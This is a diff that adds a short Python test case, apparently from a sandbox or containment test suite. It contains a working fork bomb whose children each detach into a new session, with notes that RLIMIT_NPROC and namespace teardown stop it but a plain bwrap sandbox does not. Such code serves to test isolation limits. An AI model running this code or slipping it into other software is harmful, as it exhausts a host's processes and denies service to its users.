@@ -1,0 +1,22 @@
+"""A fork bomb in which every child forks, each in a session of its own.
+
+stopped_by: RLIMIT_NPROC, and the end of the namespace
+plain bwrap: succeeds
+"""
+
+import os
+import time
+
+
+def attack():
+    parent = os.getpid()
+    for _ in range(14):
+        try:
+            if os.fork() == 0:
+                os.setsid()
+        except OSError:
+            break
+    if os.getpid() == parent:
+        return 0.0
+    time.sleep(3600)
+    return 0.0
